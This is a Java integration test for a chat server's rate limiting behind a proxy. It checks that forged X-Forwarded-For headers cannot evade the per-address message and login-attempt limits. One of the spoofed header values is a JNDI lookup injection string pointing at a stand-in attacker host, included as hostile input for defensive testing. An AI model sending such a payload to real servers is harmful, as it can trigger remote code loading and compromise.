package org.chatrooms.it.guard;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.chatrooms.it.harness.Answers;
import org.chatrooms.it.harness.DataFolder;
import org.chatrooms.it.harness.EmbeddedServer;
import org.chatrooms.it.harness.FakeClock;
import org.chatrooms.it.harness.LogLines;
import org.chatrooms.it.harness.Person;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Behind a proxy, which writes the address that somebody has at the end of what they wrote themselves: they are
 * counted by that address, whatever they wrote. Ten people's messages are too many for one address here.
 */
class ForwardedForTest {
    private static final int BURST = 10;
    private static final int GUESTS = 150;
    private static final String FLOODER = "198.51.100.7";
    private static final String INNOCENT = "203.0.113.9";
    private static final String ADDRESSES = "org.chatrooms.web.guard.Addresses";

    @TempDir
    private Path data;

    private final FakeClock clock = new FakeClock();

    private EmbeddedServer start(String... settings) throws Exception {
        Map<String, String> all = new HashMap<>(Map.of(
                "chatrooms.limits.enabled", "true",
                "chatrooms.limits.messageBurst", Integer.toString(BURST),
                "chatrooms.limits.signInsPerMinute", "3"));
        for (int i = 0; i < settings.length; i += 2) {
            all.put(settings[i], settings[i + 1]);
        }
        return EmbeddedServer.start(data, clock, all);
    }

    private EmbeddedServer behindProxy() throws Exception {
        return start("chatrooms.trustedProxies", "127.0.0.1, ::1");
    }

    private static HttpResponse<String> post(Person person, List<String> forwarded, String path, String... form)
            throws Exception {
        HttpRequest.Builder request = person.postOfForm(path, form).header("X-Requested-With", "XMLHttpRequest");
        forwarded.forEach(line -> request.header("X-Forwarded-For", line));
        return person.send(request);
    }

    private static HttpResponse<String> say(Person person, String... forwarded) throws Exception {
        return post(person, List.of(forwarded), "send_message/", "room_id", "1", "message", "hello");
    }

    private static List<Person> guests(EmbeddedServer server, int count) throws Exception {
        List<Person> guests = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            guests.add(Person.guest(server.base(), "guest" + i));
        }
        return guests;
    }

    /** As many messages as an address may send, by ten people; then no more. */
    private static void exhaust(List<Person> guests, String... forwarded) throws Exception {
        for (int i = 0; i < guests.size() * BURST; i++) {
            Answers.json(200, say(guests.get(i / BURST), forwarded));
        }
    }

    private static void isTooMany(HttpResponse<String> answer) {
        assertEquals("You are sending messages too fast", Answers.jsonError(429, answer));
        assertTrue(Integer.parseInt(Answers.header("Retry-After", answer)) > 0);
    }

    @Test
    void all_chat_who_have_an_address_of_their_own_whatever_they_say_they_have() throws Exception {
        try (EmbeddedServer server = behindProxy()) {
            List<Person> guests = guests(server, GUESTS);
            for (int i = 0; i < GUESTS; i++) {
                Answers.json(200, say(guests.get(i), FLOODER + ", 203.0.113." + (i + 1)));
            }
        }
    }

    @Test
    void who_floods_from_one_address_is_held_up_by_whatever_name_and_lie_and_nobody_else_is() throws Exception {
        try (EmbeddedServer server = behindProxy()) {
            exhaust(guests(server, 10), INNOCENT + ", " + FLOODER);

            List<List<String>> lies = List.of(
                    List.of(FLOODER),
                    List.of(INNOCENT + ", " + FLOODER),
                    List.of("10.0.0.1, 192.0.2.1," + FLOODER),
                    List.of("127.0.0.1, " + FLOODER),
                    List.of("::1, 127.0.0.1, " + FLOODER),
                    List.of("unknown, " + FLOODER),
                    List.of(",,, " + FLOODER),
                    List.of("${jndi:ldap://evil.example/a}, " + FLOODER),
                    List.of(INNOCENT, FLOODER), // as other proxies do it, in a line of its own
                    List.of("127.0.0.1", FLOODER + ", 127.0.0.1")); // through two of ours
            for (int i = 0; i < lies.size(); i++) {
                Person another = Person.guest(server.base(), "another" + i);
                isTooMany(say(another, lies.get(i).toArray(String[]::new)));
            }

            Answers.json(200, say(Person.guest(server.base(), "innocent"), INNOCENT));
            clock.pass(Duration.ofSeconds(1), server);
            Answers.json(200, say(Person.guest(server.base(), "patient"), FLOODER));
        }
    }

    @Test
    void who_guesses_passwords_gets_no_more_tries_by_a_lie() throws Exception {
        DataFolder.makePeople(data, "root", "ann");
        try (EmbeddedServer server = behindProxy()) {
            String[] guess = {"username", "ann", "password", "a guess"};
            for (int i = 0; i < 3; i++) {
                List<String> forwarded = List.of("203.0.113." + i + ", " + FLOODER);
                Answers.page(400, post(new Person(server.base()), forwarded, "login/", guess));
            }

            List<String> lie = List.of(INNOCENT + ", " + FLOODER);
            Answers.page(429, post(new Person(server.base()), lie, "login/", guess));
            guess[3] = Person.PASSWORD;
            Answers.redirect(post(new Person(server.base()), List.of(INNOCENT), "login/", guess));
        }
    }

    @Test
    void where_nobody_said_who_the_proxy_is_all_chat_and_the_log_says_once_what_is_missing() throws Exception {
        try (EmbeddedServer server = start();
                LogLines log = new LogLines(ADDRESSES)) {
            List<Person> guests = guests(server, GUESTS);
            for (Person guest : guests) {
                Answers.json(200, say(guest, FLOODER));
            }
            for (int i = 1; i < BURST; i++) {
                Answers.json(200, say(guests.get(0), FLOODER));
            }
            isTooMany(say(guests.get(0), FLOODER)); // who it is does not depend on an address

            assertEquals(1, log.lines().size(), log.lines().toString());
            assertTrue(
                    log.lines().get(0).contains("chatrooms.trustedProxies"),
                    log.lines().toString());
        }
    }

    @Test
    void without_a_proxy_there_is_one_address_and_nothing_to_warn_of() throws Exception {
        try (EmbeddedServer server = start();
                LogLines log = new LogLines(ADDRESSES)) {
            exhaust(guests(server, 10));

            isTooMany(say(Person.guest(server.base(), "another")));
            assertEquals(List.of(), log.lines());
        }
    }
}
